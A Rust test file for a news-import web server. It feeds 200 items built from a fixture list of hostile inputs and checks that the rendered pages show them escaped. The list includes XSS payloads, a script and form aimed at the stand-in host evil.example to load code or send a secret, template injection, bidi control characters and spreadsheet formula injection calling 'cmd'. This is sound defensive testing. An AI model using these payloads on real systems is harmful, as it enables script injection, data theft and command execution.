//! Two hundred imports that would do harm if they were anything but text.

use crate::server::Server;

const HARM: &[&str] = &[
    "<script>alert(1)</script>",
    "</p></main><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><input name=form_secret>",
    "{{ frame.form_secret }}{% include \"frame.html\" %}",
    "\u{202e}<b>\u{2066}",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "</textarea><script>alert(1)</script>",
    "&lt;script&gt;&#x3c;script>",
];
const SENTENCES: usize = 10;

/// Ten sentences with each: in outlets, titles, sources and contents.
fn imports() -> Vec<(String, String, String)> {
    let mut imports = Vec::new();
    for harm in HARM {
        for number in 0..SENTENCES {
            let text = match number % 2 {
                0 => format!("وقال وزير النقل {harm} إن الجسر {number} مغلق ثلاثة أيام."),
                _ => {
                    format!("وقال وزير النقل كمال السروجي إن الجسر {number} مغلق {harm} ثلاثة أيام.")
                }
            };
            imports.push((
                format!("منبر {harm}"),
                format!("عنوان {number} {harm}"),
                text,
            ));
        }
    }
    imports
}

/// The tags of a page, each as it stands between its angle brackets.
fn tags(page: &str) -> impl Iterator<Item = &str> {
    page.split('<')
        .skip(1)
        .map(|rest| rest.split('>').next().unwrap_or_default())
}

/// Whether markup is only what the templates have.
fn is_harmless(page: &str, place: &str) {
    for tag in tags(page) {
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            ![
                "iframe", "svg", "img", "style", "base", "object", "embed", "animate", "b0"
            ]
            .contains(&name.as_str()),
            "{place}: <{tag}>"
        );
        if name == "script" {
            assert!(
                tag.starts_with("script src=\"/assets/") || tag.starts_with("script src=&#"),
                "{place}: <{tag}>"
            );
        }
        // Values of attributes hold anything; what stands outside them does not.
        let outside: String = tag.split('"').step_by(2).collect();
        assert!(
            !outside.contains(" on")
                && !outside.contains("javascript:")
                && !outside.contains("evil"),
            "{place}: <{tag}>"
        );
        for attribute in ["href=\"", "src=\"", "action=\"", "formaction=\""] {
            if let Some(at) = tag.find(attribute) {
                let value = &tag[at + attribute.len()..];
                assert!(
                    value.starts_with('/') || value.starts_with("&#x2f;"),
                    "{place}: <{tag}>"
                );
            }
        }
    }
    // A field to write in holds the text itself, apart from all around it.
    let fields = |part: &str| {
        part.split_once("</textarea>")
            .map_or(part, |(_, rest)| rest)
            .to_owned()
    };
    let page: String = page.split("<textarea").map(fields).collect();
    let hidden = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut texts = page
        .split('<')
        .map(|part| part.split_once('>').map_or(part, |(_, text)| text));
    assert!(
        !texts.any(|text| text.contains(hidden)),
        "{place}: a control that works"
    );
}

#[test]
fn two_hundred_hostile_imports_stay_text() {
    let imports = imports();
    assert_eq!(imports.len(), 200);
    let server = Server::new(&imports);
    let visitor = server.enter();
    let readings = server.store();
    let queue = readings.queue(
        &Default::default(),
        Default::default(),
        None,
        Default::default(),
        500,
    );
    let rows = queue.unwrap().rows;
    assert!(rows.len() > 150, "{} readings", rows.len());
    let mut seen = String::new();
    for row in &rows {
        let page = server.get(&visitor, &format!("/reading?item={}", row.id));
        assert_eq!(page.status, 200, "{}", row.id);
        is_harmless(&page.body, &format!("reading {}", row.id));
        seen.push_str(&page.body);
    }
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;svg onload=alert(1)&gt;",
        ">RLO<",
        "javascript:alert(1)",
        "=cmd|",
    ] {
        assert!(seen.contains(shown), "{shown} is not to be seen");
    }
    for path in ["/sources", "/audit", "/claims", "/agreement", "/users"] {
        let page = server.get(&visitor, path);
        assert_eq!(page.status, 200, "{path}");
        is_harmless(&page.body, path);
    }
}
